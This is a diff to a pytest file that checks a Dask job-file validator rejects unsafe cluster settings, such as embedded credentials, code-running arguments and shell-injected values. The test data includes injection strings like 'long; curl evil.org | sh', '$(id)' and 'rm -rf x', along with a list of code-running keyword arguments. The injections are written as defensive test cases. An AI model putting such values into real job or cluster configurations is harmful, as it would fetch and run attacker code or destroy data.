@@ -11,6 +11,7 @@ import pytest
 
 from hmrf_dask.errors import ConfigurationError
 from hmrf_dask.estimators.classes import ESTIMATORS
+from hmrf_dask.jobs.cluster_classes import CLASSES, arguments_of
 from hmrf_dask.jobs.inputs import load_job
 from hmrf_dask.jobs.job_file import PARAMETERS, Job, json_schema
 
@@ -112,10 +113,112 @@ def test_a_method_takes_its_own_parameters_only(tmp_path: Path) -> None:
             "{class: dask_jobqueue.SLURMCluster, kwargs: {aws: {secret_access_key: x}}}",
             "must not hold a credential",
         ),
+        ("{address: 'tcp://me:CANARY5ecret@a:1'}", "address: must not hold a user or a password"),
+        ("{address: 'me:CANARY5ecret@a:1'}", "address: must not hold a user or a password"),
+        ("{address: 'tcp://a:1?token=CANARY5ecret'}", "address: must have no query"),
+        ("'tcp://me:CANARY5ecret@a:1'", "must be a mapping"),
+        ("{kwargs: [{any: CANARY5ecret}]}", "kwargs: must be a mapping of names"),
+        ("{scheduler_file: 'https://me:CANARY5ecret@a/f'}", "must not hold a user or a password"),
     ],
 )
 def test_a_cluster_is_one_of_five_ways(cluster: str, told: str, tmp_path: Path) -> None:
     assert told in refused(tmp_path, f"{SMALLEST}cluster: {cluster}\n")
+
+
+RUNS_CODE = (
+    "preload",
+    "preload_argv",
+    "worker_class",
+    "scheduler_cls",
+    "env",
+    "environment",
+    "env_vars",
+    "environ",
+    "job_script_prologue",
+    "worker_command",
+    "worker_extra_args",
+    "python",
+    "remote_python",
+    "shebang",
+    "job_extra_directives",
+    "security",
+    "plugins",
+    "scheduler_options",
+    "connect_options",
+    "custom_cluster_spec",
+    "bootstrap",
+    "extra_bootstrap",
+    "docker_args",
+    "host_setup_script",
+    "services",
+    "config_name",
+    "loop",
+)
+
+
+@pytest.mark.parametrize("name", CLASSES)
+def test_a_cluster_takes_nothing_that_runs_code(name: str, tmp_path: Path) -> None:
+    for argument in RUNS_CODE:
+        asked = f"{{class: {name}, kwargs: {{{argument}: [x.py]}}}}"
+        told = refused(tmp_path, f"{SMALLEST}cluster: {asked}\n")
+        assert f"kwargs of {name} must be among" in told, told
+        assert f"got '{argument}'" in told
+
+
+@pytest.mark.parametrize(
+    ("kwargs", "told"),
+    [
+        ("{cors: 2}", "got 'cors' (did you mean 'cores'?)"),
+        ("{queue: 'long; curl evil.org | sh'}", "kwargs.queue must be a text of letters"),
+        ("{queue: '--uid=0'}", "kwargs.queue must be a text of letters"),
+        ('{queue: "a\\nrm -rf x"}', "kwargs.queue must"),
+        ("{local_directory: /tmp/$(id)}", "kwargs.local_directory must be a text of letters"),
+        ("{local_directory: /tmp/a --preload b.py}", "kwargs.local_directory must be a text"),
+        ("{local_directory: 's3://me:CANARY5ecret@b'}", "kwargs['local_directory'] must not hold"),
+        ("{name: '{{cookie}}'}", "kwargs.name must be a text of letters"),
+        ("{cores: {preload: x}}", "kwargs.cores must be no mapping"),
+        ("{cores: [[[[[1]]]]]}", "kwargs.cores must be a list of plain values"),
+        ("{account: {password: CANARY5ecret}}", "must not hold a credential, got 'password'"),
+    ],
+)
+def test_what_a_cluster_is_told_is_plain(kwargs: str, told: str, tmp_path: Path) -> None:
+    asked = f"{{class: dask_jobqueue.SLURMCluster, kwargs: {kwargs}}}"
+    said = refused(tmp_path, f"{SMALLEST}cluster: {asked}\n")
+    assert told in said
+    assert "CANARY" not in said
+
+
+def test_a_mapping_has_keys_that_are_known(tmp_path: Path) -> None:
+    kwargs = "{hosts: [a, b], worker_options: {nthreads: 2, preload: x.py}}"
+    said = refused(
+        tmp_path, f"{SMALLEST}cluster: {{class: distributed.SSHCluster, kwargs: {kwargs}}}\n"
+    )
+    assert "kwargs.worker_options must have no 'preload'; known are local_directory" in said
+    kwargs = "{resources: {requests: {memory: 2Gi}, limits: {cpu: 1}}, image: daskdev/dask:2026.3}"
+    name = "dask_kubernetes.operator.KubeCluster"
+    job = load(tmp_path, f"{SMALLEST}cluster: {{class: {name}, kwargs: {kwargs}}}\n")
+    assert job.cluster.kwargs["resources"]["limits"] == {"cpu": 1}
+
+
+def test_what_is_started_listens_as_little_as_it_can() -> None:
+    nowhere = "127.0.0.1:0"
+    local, slurm = "distributed.LocalCluster", "dask_jobqueue.SLURMCluster"
+    assert arguments_of(local, {}) == {"host": "127.0.0.1", "dashboard_address": nowhere}
+    assert arguments_of(local, {"interface": "ib0"}) == {
+        "interface": "ib0",
+        "dashboard_address": nowhere,
+    }
+    assert arguments_of(local, {"host": "0.0.0.0"})["host"] == "0.0.0.0"
+    assert arguments_of(slurm, {"cores": 2, "host": "10.0.0.1"}) == {
+        "cores": 2,
+        "scheduler_options": {"host": "10.0.0.1", "dashboard_address": nowhere},
+    }
+    said = {"dashboard_address": ":1", "port": 2}
+    assert arguments_of(slurm, {}, said) == {"scheduler_options": said}
+    assert arguments_of("distributed.SSHCluster", {"hosts": ["a"]}) == {
+        "hosts": ["a"],
+        "scheduler_options": {"dashboard_address": nowhere},
+    }
 
 
 def test_an_output_with_options_says_where_these_belong(tmp_path: Path) -> None:
